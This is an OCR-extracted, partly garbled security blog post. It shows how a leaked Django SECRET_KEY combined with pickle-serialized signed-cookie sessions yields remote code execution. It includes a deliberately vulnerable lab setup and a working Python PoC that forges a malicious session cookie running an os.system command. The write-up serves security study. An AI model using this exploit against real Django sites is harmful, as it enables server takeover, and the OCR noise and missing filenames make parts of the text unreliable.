Aquaboutic | Focus Security Research | Vulnerability Exploit | POC


command execution practice caused by secret key leakage of django

Posted by fleschner at 2020-02-24

0x01 purpose of secret key and attack surface caused by leakageSecret key is mainly used for encryption and signature. The following is the description of official documents:

The secret key is used for:

django.contrib.sessions.backends.cache defaultget_session_auth_hash() CookieStorage FallbackStorage PasswordResetView

Possible attack surface of secret key disclosure:

cookie-based sessions session_data contrib.auth.token

We focus on remote code execution.

0x02 several ways of Django session

As shown in the following figure, both the key and data of the session are stored in the SQLite database, which is the default setting. When the user requests the server with a cookie, the cookie contains the session key. The server will query the database according to the session key to obtain the session data. That is to say, there is a server for session [u data].

session_key session_key session_data session_data

When Django uses this method, unlike other methods, it also exists session﹐ u data in the cookie, that is, in the client. However, it is signed. The signature depends on Django's secret key, so if we know the secret key, we may modify the session [u data]. This is also the focus of our discussion.

session_data session_data

0x03 environment preparation

There is a good case about using session to implement command execution. I've seen it when learning the pickle deserialization. The key is that Django needs to do the deserialization operation to get the data after obtaining the session ﹐ data. Therefore, if there is an opportunity to operate session ﹣ data, it may lead to code execution.

session_data session_data

We are concerned about the leakage of secret key, which has two key points:

cookie-based sessions serializers.PickleSerializer

Note: below Django level 1.5, the default for session is to use pickle to perform the serial number operation django.contrib.sessions.serializers.picklesserializer; at 1.6and above, the default is JSON serialization.django.contrib.sessions.serializers.JSONSerializer

django.contrib.sessions.serializers.PickleSerializer django.contrib.sessions.serializers.JSONSerializer

Djgano test environment deployment:

#命令行下运行如下命令来创建项目 django-admin startproject testproject #在项目中创建应用 cd testproject python startapp testapp #在setting.py中新增SESSION_ENGINE和SESSION_SERIALIZER配置。这是漏洞存在的必要条件! SESSION_ENGINE = 'django.contrib.sessions.backends.signed_cookies' #SESSION_SERIALIZER = 'django.contrib.sessions.serializers.JSONSerializer' SESSION_SERIALIZER = 'django.contrib.sessions.serializers.PickleSerializer' #因为我的环境中使用的Django1.11,默认使用的是JSONSerializer,所以需要配置这一条。

The contents of are as follows:

from django.conf.urls import url from django.contrib import admin from testapp import views urlpatterns = [ url(r'.*$', views.index), url(r'^admin/',, ]

The contents of are as follows:

# -*- coding: utf-8 -*- from __future__ import unicode_literals fromdjango.shortcuts import render from django.http import HttpResponse # Create your views here. def index(request): x= request.session print x.values print dir(x) print x.serializer print x['userid'] #这一句是关键,需要有尝试从session中取数据的行为,django才会去执行反序列 return HttpResponse(x)

Note: Django can only execute the inverse sequence if it tries to get data from the session, otherwise it will not be triggered! Therefore, in the actualenvironment, it is better to choose the user information related interface and other interfaces that will take data for testing.

The above completes the preparation of the environment, and runs Python runserver to start the service.

python runserver

0x04 POC and verification

For the generation method of pickle POC, please refer to my previous article Python pickle's Arbitrary Code Execution Vulnerability practice and payload construction.

The content of is as follows:

# !/usr/bin/env python # -*- coding:utf-8 -*- __author__ = 'bit4' __github__ = '' import os import requests from django.contrib.sessions.serializers import PickleSerializer fromdjango.core import signing import pickle def session_gen(SECRET_KEY,command = 'ping -n 3 || ping -c',): class Run(object): def __reduce__(self): #return (os.system,('ping',)) return (os.system,(command,)) #SECRET_KEY = '1bb8)i&dl9c5=npkp248gl&aji7^x6izh3!itsmb6&yl!fak&f' SECRET_KEY = SECRET_KEY sess = signing.dumps(Run(), key = SECRET_KEY,serializer=PickleSerializer,salt='django.contrib.sessions.backends.signed_cookies') #生成的恶意session print sess ''' salt='django.contrib.sessions.backends.signed_cookies' sess = pickle.dumps(Run()) sess = signing.b64_encode(sess)#通过跟踪signing.dumps函数可以知道pickle.dumps后的数据还经过了如下处理。 sess = signing.TimestampSigner(key=SECRET_KEY, salt=salt).sign(sess) print sess #这里生成的session也是可以成功利用的,这样写只是为了理解signing.dumps。 ''' session = 'sessionid={0}'.format(sess) return session def exp(url,SECRET_KEY,command): headers = {'Cookie':session_gen(SECRET_KEY,command)} proxy = {"http":""}#设置为burp的代理方便观察请求包 response = requests.get(url,headers= headers,proxies = proxy) #print response.content if __name__ == '__main__': url = '' SECRET_KEY = '1bb8)i&dl9c5=npkp248gl&aji7^x6izh3!itsmb6&yl!fak&f' command = 'ping -n 3 || ping -c' exp(url,SECRET_KEY,command)

When running, the output in the background:

Print x ['userid '] corresponds to two actions: one is deserialization, which is the key to executing system commands; the other is value taking. Here is the error information printed due to value taking failure, but this is no longer important, because we have achieved our goal.

print x['userid']

POC script is better to use native library or method togenerate payload. For example, in above, you can use signing.dumps or pickle.dumps alone and then add other operations, but you'd better use the firstone to ensure the correctness of payload. And in the actual environment, if you can get the specific version of thetarget, you'd better configure the corresponding version of the environment to complete the generation of POC.

signing.dumps pickle.dumps

本文环境和代码的下载地址: 0x05 参考